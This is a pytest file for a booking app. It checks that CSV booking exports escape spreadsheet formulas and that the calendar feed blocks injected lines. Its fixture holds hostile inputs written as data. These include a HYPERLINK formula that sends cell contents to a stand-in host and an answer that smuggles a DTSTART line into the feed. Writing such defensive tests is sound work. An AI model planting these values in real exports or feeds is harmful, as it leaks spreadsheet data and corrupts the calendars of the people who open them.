"""What strangers typed, in the files that hosts take away: no formula, no line of its own."""

import csv
import io
from hashlib import sha256

import icalendar
import pytest

from contracts.booking import Attendee, Book, Question, SaveFeed

FORMULA = '=HYPERLINK("http://formula.test/?"&A1,"x")'
BAD = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture(scope="module")
def files(roles):
    """Mia's CSV and feed, with one booking in which everything is a formula."""
    roles.suite.link(
        roles.mia,
        "formulas",
        title="@SUM(1)",
        notice=0,
        questions=(
            Question(id="one", label="-1+1"),
            Question(id="more", label="More", type="textarea"),
        ),
    )
    asked = Book(
        slug="formulas",
        idempotency_key="formulas",
        start="2026-12-08T10:00:00Z",
        attendee=Attendee(name=FORMULA, email="=cmd@formula.test", timezone="UTC"),
        guests=("+guest@formula.test",),
        answers={"one": "@x", "more": 'a"b,c\nDTSTART:19700101T000000Z\n=1'},
        source={"utm_source": "=1"},
    )
    roles.local.booking.book(asked)
    roles.suite.hear()
    secret = sha256(b"formulas").hexdigest()
    mine = {"workspace_id": roles.mia.workspace_id, "host_id": roles.mia.id}
    roles.local.booking.save_feed(SaveFeed(**mine, digest=secret))
    host = roles.site.signed_in(roles.mia)
    table = host.get("/calendar/bookings.csv?q=formula")
    table.get_data()  # to its end, as a browser does, before anything else is asked
    return table, roles.site.client().get("/calendar/feed/formulas.ics")


def test_no_cell_is_a_formula_and_no_answer_breaks_its_line(files):
    body = files[0].get_data(as_text=True).removeprefix("\ufeff")
    table = list(csv.reader(io.StringIO(body, newline="")))
    assert len(table) == 2
    assert len(table[0]) == len(table[1])
    assert not [cell for line in table for cell in line if cell.startswith(BAD)]
    assert f"'{FORMULA}" in table[1]


def test_the_file_is_saved_and_not_shown(files):
    headers = files[0].headers
    assert headers["Content-Disposition"].startswith("attachment")
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Cache-Control"] == "no-store"


def test_a_name_is_one_line_of_the_feed_and_answers_are_none(files):
    body = files[1].get_data()
    assert b"1970" not in body
    assert b"cmd@formula.test" not in body
    events = icalendar.Calendar.from_ical(body).walk("VEVENT")
    mine = [event for event in events if "HYPERLINK" in str(event["summary"])]
    assert [str(event["summary"]) for event in mine] == [f"@SUM(1): {FORMULA}"]
